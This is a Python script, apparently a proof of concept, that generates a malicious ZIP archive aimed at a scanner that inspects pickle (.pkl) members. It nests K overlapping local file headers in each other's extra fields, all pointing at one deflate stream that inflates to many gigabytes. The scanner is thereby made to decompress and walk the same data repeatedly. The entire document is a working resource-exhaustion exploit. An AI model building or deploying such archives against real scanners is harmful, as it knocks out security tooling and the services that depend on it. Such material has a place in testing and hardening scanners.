# No end record (central directory unusable) -> the scanner decodes the .pkl member of EVERY local-header
# signature. K local headers, nested in each other's extra fields, all point their data at the SAME
# deflate stream (inflating to G GiB) with distinct compressed sizes, so each is inflated and walked again.
import struct, sys, zlib
out = sys.argv[1]; K = int(sys.argv[2]); gib = float(sys.argv[3])
c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
blk = c2.compress(b'\0' * (1 << 20)) + c2.flush(zlib.Z_FULL_FLUSH)
stream = blk * int(gib * 1024) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
name = b'a.pkl'; step = 40; D = K * step + 64
f = bytearray(D)
for i in range(K):
    pos = i * step
    el = D - (pos + 30 + len(name))
    h = struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 8, 0, 0, 0, len(stream) + i, 0, len(name), el) + name
    f[pos:pos + len(h)] = h
f += stream + b'\0' * K
open(out, 'wb').write(bytes(f)); print(out, len(f), 'bytes')
